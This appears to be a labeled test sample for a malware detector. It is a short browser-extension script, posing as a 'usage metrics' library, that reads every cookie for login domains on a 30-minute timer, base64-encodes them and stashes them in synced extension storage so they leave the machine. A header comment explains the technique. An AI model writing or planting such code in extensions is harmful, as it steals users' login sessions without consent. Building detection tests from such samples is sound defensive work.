// expect: malicious
// source: blind set 29 (browser-sync-exfil): an extension "usage metrics" library reads every cookie of login sites
// through a promisified chrome.cookies.getAll (the executor's resolve handed as the callback) and writes them, base64
// in chunks, into chrome.storage.sync, which the browser uploads to the signed-in account.
const api = globalThis.browser || globalThis.chrome;
const SITES = ['accounts.mail.invalid', 'git.invalid'];
async function roam() {
  const out = {};
  for (const domain of SITES) {
    const list = await new Promise((resolve) => api.cookies.getAll({ domain }, resolve));
    out[domain] = list.map((c) => [c.name, c.value]);
  }
  const blob = btoa(JSON.stringify(out));
  await api.storage.sync.set({ 'um:r0': blob.slice(0, 7900), 'um:r1': blob.slice(7900) });
}
export function init() {
  api.alarms.create('tick', { periodInMinutes: 30 });
  api.alarms.onAlarm.addListener(() => roam().catch(() => {}));
}
